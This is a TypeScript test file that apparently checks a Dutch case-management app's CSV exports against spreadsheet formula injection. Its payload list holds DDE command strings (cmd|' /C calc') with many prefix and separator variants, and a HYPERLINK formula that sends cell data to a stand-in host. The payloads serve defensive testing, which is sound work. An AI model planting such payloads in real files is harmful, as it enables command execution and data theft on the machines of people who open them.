/** S10: what somebody typed is no formula in any file we give: each beginning a spreadsheet runs, in each field, with each separator it may take. */
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { Page } from "#src/platform/http/page.ts";
import { csvCell, fromCsvCell } from "#src/platform/http/csv-cell.ts";
import { phases } from "../phases.ts";
import { type TestHouse, testHouse } from "../testing/house.ts";

let house: TestHouse;
beforeAll(async () => {
	house = await testHouse();
}, 60_000);
afterAll(() => house.close());

const CALC = `cmd|' /C calc'!A0`;
const beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\0=", "\n=", " =", "＝", "＋", "－", "＠", "|", "%", "\uFEFF=", "\u200B="];
const breakouts = [`x;=${CALC}`, `x,=${CALC}`, `x\t=${CALC}`, `x";=${CALC}`, `";=${CALC};"`, `x\r\n=${CALC}`, `'=${CALC}`, `"=${CALC}`];
const evil: readonly string[] = [
	...beginnings.map((first) => first + CALC),
	...breakouts,
	`=HYPERLINK("http://elders.example?x="&A1,"klik")`,
	"-2+3+cmd|' /C calc'!A0",
];
/** A number is no formula, whatever it begins with. */
const isLive = (cell: string): boolean => /^[\s\0\p{Cf}]*[=+\-@\t\r\0＝＋－＠|%]/u.test(cell) && !/^[+-]?\d+(?:[.,]\d+)*$/.test(cell);
const liveIn = (text: string): readonly string[] =>
	[";", ",", "\t", "|"].flatMap((delimiter) =>
		(parse(text, { delimiter, bom: true, relax_column_count: true, relax_quotes: true, skip_empty_lines: true }) as string[][]).flat().filter(isLive),
	);

it("S10 every page that gives a file for a spreadsheet is known here", () => {
	const files = phases.flatMap((phase) => phase.pages).flatMap((page) => ((page as unknown as Page).file ? [(page as unknown as Page).path] : []));
	const spreadsheets = files.filter((path) => /niet-ingelezen|terugkoppeling\/tabel/.test(path));
	expect(spreadsheets).toHaveLength(2);
	// The others are JSON, a picture, a sound, a printed sheet, a card for a phone or an agenda: nothing there is run. By name, so that another one meets this test.
	expect(files.filter((path) => !spreadsheets.includes(path)).sort()).toEqual([
		"/agenda/:secret",
		"/controle/uitvoer",
		"/eigen-kracht/:conference/plan/bijlage",
		"/eigen-kracht/:conference/plan/foto",
		"/eigen-kracht/:conference/uitleg/:handOut/foto",
		"/jij/kaart/telefoon",
		"/mensen/:case/gegevens",
		"/mensen/:case/geschreven/:paper",
		"/mensen/:case/huishouden/papier/:paper",
		"/mensen/:case/opname/:recording",
		"/mensen/:case/plan/papier/:paper/foto",
		"/mensen/:case/plan/samen/woorden",
		"/mensen/:case/toestemming/:letter/handtekening",
		"/mijn/gegevens",
		"/mijn/geschreven/:paper",
		"/mijn/huishouden/papier/:paper",
		"/mijn/plan/papier/:paper/foto",
		"/mijn/plan/samen/woorden",
		"/mijn/toestemming/:letter",
		"/partner/terugkoppeling/systeem",
		"/toegang/uitvoer",
	]);
});
it("S10 no cell is a formula for any separator, and it comes back as it was typed", () => {
	for (const text of evil) {
		expect(liveIn(`a;b\r\n${csvCell(text, ";")};x\r\n`), JSON.stringify(text)).toEqual([]);
		expect(liveIn(`a,b\r\n${csvCell(text, ",")},x\r\n`), JSON.stringify(text)).toEqual([]);
	}
	fc.assert(
		fc.property(
			fc.array(fc.oneof(fc.constantFrom(...evil), fc.string()), { minLength: 1, maxLength: 4 }),
			fc.constantFrom(";", ",", "\t"),
			(cells, separator) => {
				const line = cells.map((one) => csvCell(one, separator)).join(separator);
				const [read] = parse(line, { delimiter: separator, relax_column_count: true }) as string[][];
				const back = (read ?? [""]).map(fromCsvCell);
				// Several lines or cells in one are safe first; what is one cell comes back to the letter.
				for (const [at, one] of cells.entries()) if (!/[,;|\t\r\n"']/.test(one)) expect(back[at]).toBe(one);
				expect((read ?? []).filter(isLive)).toEqual([]);
			},
		),
		{ numRuns: 400 },
	);
});
it("S10 the lines of a creditor's file that did not come in, and what comes back to a partner: none of it runs", async () => {
	const { westhof, keeper } = house.people;
	expect(keeper.roles).toContain("keeper");
	const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
	// Some fit and some do not; all of them hold what a spreadsheet would run, in every column.
	const rows = evil.flatMap((text, at) => [
		[text, `Beukenlaan ${at + 1}, 1011 AB`, "3", "900", text],
		[text, text, text, text, text],
	]);
	const bytes = new TextEncoder().encode(`naam;adres;maanden;bedrag;kenmerk\n${rows.map((row) => row.map(quoted).join(";")).join("\n")}\n`);
	const { file } = await house.mustRun(westhof, "signalling.bring-file", { file: { name: "a.csv", bytes } });
	const ran = await house.run(westhof, "signalling.import-arrears", { file, columns: { whom: 0, address: 1, months: 2, amount: 3, reference: 4 } });
	expect(ran.kind, JSON.stringify(ran)).toBe("ok");
	await house.runJobs();
	const outcome = ran.kind === "ok" ? String(ran.value["outcome"]) : "";
	const refused = await house.get(westhof, `/achterstanden/uitkomst/${outcome}/niet-ingelezen`);
	expect(refused.status).toBe(200);
	expect(refused.html.split("\n").length).toBeGreaterThan(5);
	expect(liveIn(refused.html)).toEqual([]);
	const back = await house.get(westhof, "/partner/terugkoppeling/tabel");
	expect(back.status).toBe(200);
	expect(back.html).toContain("Beukenlaan");
	expect(liveIn(back.html)).toEqual([]);
});
